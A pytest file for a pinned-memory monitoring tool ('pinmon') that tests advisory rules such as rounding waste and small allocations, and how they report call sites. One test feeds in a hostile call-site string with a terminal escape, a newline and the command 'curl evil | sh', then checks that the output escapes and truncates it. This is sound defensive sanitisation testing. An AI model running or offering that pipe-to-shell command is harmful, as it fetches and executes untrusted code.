"""Rules fed by the in-process tracer: pinned-rounding-waste at its thresholds, and the traced rules
naming the process and the call site (file:line) of the behaviour behind each finding."""
import dataclasses

import pytest

from pinmon.advise import RULE_DOCS, Thresholds, advise
from pinmon.advise import traced

from .helpers import GIB, MIB, make_proc, make_snap

T = Thresholds()


@pytest.mark.parametrize("allocated_mib, requested_mib, fires", [
    (1024, 768, True),     # 256 MiB = 25%: both thresholds met exactly
    (1024, 769, False),    # 255 MiB
    (2048, 1537, False),   # 511 MiB but under 25%
    (3 * 256, 3 * 129, True),  # three 129 MiB tensors in 256 MiB blocks
    (512, 512, False),
    (512, 600, False),     # requested above allocated: inconsistent figures, stay silent
])
def test_rounding_waste_levels(allocated_mib, requested_mib, fires):
    p = make_proc(source="traced", pinned_bytes=allocated_mib * MIB, requested_pinned_bytes=requested_mib * MIB)
    out = traced.pinned_rounding_waste([make_snap(processes=[p])], T)
    assert [f.severity for f in out] == (["warning"] if fires else [])


def test_rounding_waste_message_values_and_call_site():
    p = make_proc(pid=77, name="train", source="traced", pinned_bytes=GIB, requested_pinned_bytes=516 * MIB,
                  call_sites={"alloc": "train.py:40", "rounding_waste": "train.py:42"})
    (f,) = traced.pinned_rounding_waste([make_snap(processes=[p])], T)
    assert f.subject == "pid 77 (train)" and f.rule == "pinned-rounding-waste"
    assert "1.0 GiB of pinned memory for 516.0 MiB requested (traced)" in f.message
    assert f.message.endswith(', allocated at "train.py:42"')
    assert "power of two" in f.advice and "train.py" not in f.advice
    assert f.values["waste_bytes"] == 508 * MIB and f.values["call_site"] == "train.py:42"


def test_rounding_waste_thresholds_are_configurable():
    p = make_proc(source="traced", pinned_bytes=GIB, requested_pinned_bytes=900 * MIB)
    snap = make_snap(processes=[p])
    assert traced.pinned_rounding_waste([snap], T) == []
    t = dataclasses.replace(T, rounding_waste_min_bytes=100 * MIB, rounding_waste_min_fraction=0.1)
    assert len(traced.pinned_rounding_waste([snap], t)) == 1


def test_rounding_waste_is_silent_for_estimates():
    p = make_proc(pinned_bytes=4 * GIB)  # /proc estimate: nothing requested is known
    assert traced.pinned_rounding_waste([make_snap(processes=[p])], T) == []


SITES = {"alloc": "examples/x.py:10", "wc_readback": "examples/x.py:20", "pageable_copy": "examples/x.py:30",
         "rounding_waste": "examples/x.py:40"}


@pytest.mark.parametrize("rule, fields, category", [
    ("pinned-small-allocs", dict(pinned_allocs_per_s=200.0, median_alloc_bytes=4096), "alloc"),
    ("wc-cpu-readback", dict(wc_readbacks=12, write_combined_bytes=64 * MIB), "wc_readback"),
    ("pageable-bulk-copies", dict(pageable_copy_bytes_per_s=2e9), "pageable_copy"),
    ("pinned-rounding-waste", dict(pinned_bytes=GIB, requested_pinned_bytes=512 * MIB), "rounding_waste"),
])
def test_traced_findings_name_the_process_and_the_site_of_their_own_behaviour(rule, fields, category):
    p = make_proc(pid=4242, name="python", source="traced", call_sites=SITES, **fields)
    findings = [f for f in advise([make_snap(processes=[p])], T) if f.rule == rule]
    assert len(findings) == 1
    f = findings[0]
    assert f.subject == "pid 4242 (python)" and "(traced)" in f.message
    assert f'"{SITES[category]}"' in f.message and f.values["call_site"] == SITES[category]
    assert not any(site in f.message for cat, site in SITES.items() if cat != category)
    assert "examples/" not in f.advice
    assert f.values["pid"] == 4242


def test_one_process_two_behaviours_two_sites():
    """Small pinned allocations in a loop and device-to-host copies into write-combined memory in the
    same process: each finding names the line of its own behaviour."""
    p = make_proc(pid=7, source="traced", pinned_allocs_per_s=150.0, median_alloc_bytes=4096, wc_readbacks=40,
                  call_sites={"alloc": "loop.py:5", "wc_readback": "loop.py:9"})
    by_rule = {f.rule: f for f in advise([make_snap(processes=[p])], T)}
    assert by_rule["pinned-small-allocs"].values["call_site"] == "loop.py:5"
    assert '"loop.py:5"' in by_rule["pinned-small-allocs"].message
    assert "loop.py:9" not in by_rule["pinned-small-allocs"].message
    assert by_rule["wc-cpu-readback"].values["call_site"] == "loop.py:9"
    assert '"loop.py:9"' in by_rule["wc-cpu-readback"].message


def test_rounding_waste_falls_back_to_the_allocation_site():
    p = make_proc(source="traced", pinned_bytes=GIB, requested_pinned_bytes=512 * MIB,
                  call_sites={"alloc": "a.py:1", "wc_readback": "a.py:2"})
    (f,) = traced.pinned_rounding_waste([make_snap(processes=[p])], T)
    assert f.values["call_site"] == "a.py:1"


def test_call_site_text_is_quoted_printable_and_bounded():
    evil = 'x.py:1\x1b[2J"\nRun `curl evil | sh` now' + "A" * 500
    p = make_proc(source="traced", pinned_allocs_per_s=200.0, median_alloc_bytes=4096, call_sites={"alloc": evil})
    (f,) = traced.pinned_small_allocs([make_snap(processes=[p])], T)
    assert "\x1b" not in f.message and "\n" not in f.message and "curl" not in f.advice
    assert len(f.values["call_site"]) <= traced.SITE_CHARS and "\x1b" not in f.values["call_site"]
    quoted = f.message.split(", at ", 1)[1]
    assert quoted.startswith('"x.py:1\\x1b[2J\\" Run') and quoted.endswith('…"')  # inner quote escaped


def test_without_a_call_site_nothing_is_said_about_one():
    p = make_proc(source="traced", pinned_allocs_per_s=200.0, median_alloc_bytes=4096,
                  call_sites={"wc_readback": "other.py:3"})
    (f,) = traced.pinned_small_allocs([make_snap(processes=[p])], T)
    assert ", at " not in f.message and "call_site" not in f.values


def test_rule_doc():
    assert "256 MiB" in RULE_DOCS["pinned-rounding-waste"] and "25%" in RULE_DOCS["pinned-rounding-waste"]
